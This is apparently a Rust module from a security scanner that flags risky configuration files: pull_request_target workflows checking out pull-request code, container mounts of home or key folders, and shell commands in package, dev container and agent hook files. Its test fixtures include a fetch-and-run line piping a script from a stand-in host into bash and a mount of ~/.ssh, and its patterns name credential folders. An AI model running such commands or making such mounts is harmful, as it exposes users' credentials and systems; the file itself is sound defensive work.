//! Configuration files read for what they make run: a CI workflow that
//! checks out a pull request's code where the repository's secrets are
//! (`pull_request_target`), and a compose file or dev container that
//! mounts the home folder or a folder of keys into a container.

use std::sync::LazyLock;

use regex::Regex;

/// A mount whose source is the home folder or a folder of keys.
static HOME_MOUNT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|[\s"'\[,=-])(?:~|\$HOME|\$\{HOME\}|\$\{localEnv:HOME\}|\$\{env:HOME\}|\$\{USERPROFILE\})(?:/\.(?:ssh|aws|gnupg|kube|docker|config/gcloud|azure))?/?(?::|,|["']\s*:)"#)
        .expect("valid pattern")
});

/// A workflow step taking a pull request's head.
static PR_HEAD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"github\.event\.pull_request\.head\.(?:sha|ref)\b|github\.head_ref\b")
        .expect("valid pattern")
});

/// (line from 1, rule, message) for each finding in a YAML or JSON file.
pub fn in_file(rel: &str, text: &str) -> Vec<(usize, &'static str, &'static str)> {
    let lower = rel.to_ascii_lowercase();
    let yaml = lower.ends_with(".yml") || lower.ends_with(".yaml");
    if !yaml && !lower.ends_with(".json") && !lower.ends_with(".jsonc") {
        return Vec::new();
    }
    let target = yaml && text.contains("pull_request_target");
    let mut out = Vec::new();
    for (k, line) in text.lines().enumerate() {
        let t = line.trim_start();
        if t.starts_with('#') || t.starts_with("//") {
            continue;
        }
        if target && PR_HEAD.is_match(line) {
            out.push((
                k + 1,
                "config-tampering",
                "a pull_request_target workflow checks out the pull request's code, which then runs with the repository's secrets",
            ));
        }
        let mounts = line.contains("source=")
            || line.contains("volumes")
            || t.starts_with("- ")
            || t.starts_with('"');
        if mounts && HOME_MOUNT.is_match(line) {
            out.push((
                k + 1,
                "container-access",
                "mounts the home folder or a folder of keys into a container",
            ));
        }
    }
    out
}

/// Keys whose string value a tool runs as a shell command: npm's
/// lifecycle scripts, a dev container's lifecycle commands, an agent's
/// hooks and MCP servers.
const COMMAND_KEYS: &[&str] = &[
    "command",
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "prepublish",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
    "onCreateCommand",
    "updateContentCommand",
    "initializeCommand",
];

/// The shell commands a JSON file or a notebook holds: (line from 1, the
/// command, whether it is an agent's hook, which runs on every tool call
/// with the call on its standard input).
pub fn commands(rel: &str, text: &str) -> Vec<(usize, String, bool)> {
    static STRING_KEY: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#""([A-Za-z]+)"\s*:\s*"((?:[^"\\]|\\.)*)""#).expect("valid pattern")
    });
    let lower = rel.to_ascii_lowercase();
    let mut out = Vec::new();
    if lower.ends_with(".ipynb") {
        // `!cmd` in a code cell runs in a shell.
        for (k, line) in text.lines().enumerate() {
            for m in STRING_OR_LIST.captures_iter(line) {
                let s = unescape(&m[1]);
                if let Some(cmd) = s.trim_start().strip_prefix('!') {
                    out.push((k + 1, cmd.trim_end().to_string(), false));
                }
            }
        }
        return out;
    }
    if !lower.ends_with(".json") && !lower.ends_with(".jsonc") {
        return out;
    }
    let hooks = text.contains("\"hooks\"");
    for (k, line) in text.lines().enumerate() {
        for c in STRING_KEY.captures_iter(line) {
            if COMMAND_KEYS.contains(&&c[1]) {
                out.push((k + 1, unescape(&c[2]), hooks && &c[1] == "command"));
            }
        }
    }
    out
}

/// A JSON string literal anywhere on a line.
static STRING_OR_LIST: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#""((?:[^"\\]|\\.)*)""#).expect("valid pattern"));

/// A JSON string's escapes undone (the ones a command holds).
fn unescape(s: &str) -> String {
    s.replace("\\n", "\n")
        .replace("\\\"", "\"")
        .replace("\\\\", "\\")
}

#[cfg(test)]
mod tests {
    use super::{commands, in_file};

    #[test]
    fn commands_in_json_and_notebooks() {
        let pkg = "{\"scripts\": {\"postinstall\": \"node -e \\\"eval(1)\\\"\"}}";
        assert_eq!(commands("package.json", pkg)[0].1, "node -e \"eval(1)\"");
        let nb = "{\"cells\":[{\"source\":[\"!curl -fsSL https://x.example/s | bash\\n\",\"import pandas\\n\"]}]}";
        assert_eq!(
            commands("a.ipynb", nb)[0].1,
            "curl -fsSL https://x.example/s | bash"
        );
        assert!(commands("a.ipynb", "{\"cells\":[{\"source\":[\"import os\"]}]}").is_empty());
    }

    #[test]
    fn mounts_and_workflows() {
        let compose = "services:\n  a:\n    volumes: [\"~/.ssh:/k:ro\"]\n";
        assert_eq!(in_file("docker-compose.yml", compose).len(), 1);
        assert!(
            in_file(
                "docker-compose.yml",
                "services:\n  a:\n    volumes: [\"./src:/app\"]\n"
            )
            .is_empty()
        );
        let dc = "{\"mounts\": [\"source=${localEnv:HOME}/.ssh,target=/k,type=bind\"]}\n";
        assert_eq!(in_file(".devcontainer/devcontainer.json", dc).len(), 1);
        let prt = "on: pull_request_target\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with: { ref: \"${{ github.event.pull_request.head.sha }}\" }\n";
        assert_eq!(in_file("ci.yml", prt).len(), 1);
        assert!(in_file("ci.yml", &prt.replace("_target", "")).is_empty());
    }
}
